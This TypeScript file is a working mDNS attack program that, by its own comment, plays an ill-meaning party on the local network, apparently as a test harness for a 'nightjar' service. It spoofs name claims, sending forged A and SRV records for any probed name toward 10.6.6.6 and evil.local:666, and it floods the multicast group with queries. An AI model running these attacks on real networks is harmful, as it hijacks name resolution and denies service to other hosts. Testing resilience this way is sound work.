/**
 * Somebody on the network who means ill, as a program of its own: `claim NAME` answers every probe for NAME (and every
 * name that begins with it) as if it were taken, and announces it; `flood SECONDS` sends questions as fast as it can.
 */
import { createSocket } from 'node:dgram';
import { decode, encode } from 'dns-packet';

const group = '224.0.0.251';
const port = 5353;
const [what = '', argument = '', address = ''] = process.argv.slice(2);
const socket = createSocket({ type: 'udp4', reuseAddr: true });

function claimOf(name: string): Buffer {
  const type = name.includes('_tcp') ? ('SRV' as const) : ('A' as const);
  return encode({
    type: 'response',
    flags: 0x0400,
    answers: [
      type === 'A'
        ? { name, type, ttl: 120, class: 'IN', flush: true, data: '10.6.6.6' }
        : { name, type, ttl: 120, class: 'IN', flush: true, data: { port: 666, target: 'evil.local' } },
    ],
  });
}

function claim(): void {
  socket.on('message', (message) => {
    const packet = decode(message);
    if (packet.type !== 'query') return;
    for (const { name } of packet.questions ?? []) {
      if (name.toLowerCase().startsWith(argument)) socket.send(claimOf(name), port, group);
    }
  });
  const host = `${argument.replace(/\.$/, '')}.local`;
  setInterval(() => socket.send(claimOf(host), port, group), 500);
}

function flood(): void {
  const ends = Date.now() + Number(argument) * 1000;
  const question = encode({
    type: 'query',
    questions: [
      { name: '_nightjar._tcp.local', type: 'PTR' },
      { name: 'nightjar.local', type: 'A' },
    ],
  });
  let sent = 0;
  const burst = (): void => {
    if (Date.now() > ends) {
      process.stdout.write(`${sent}\n`);
      process.exit(0);
    }
    for (let count = 0; count < 200; count++) socket.send(question, port, group);
    sent += 200;
    setTimeout(burst, 5);
  };
  burst();
}

socket.bind(port, () => {
  socket.addMembership(group, address);
  socket.setMulticastInterface(address);
  process.stdout.write('ready\n');
  if (what === 'claim') claim();
  else flood();
});
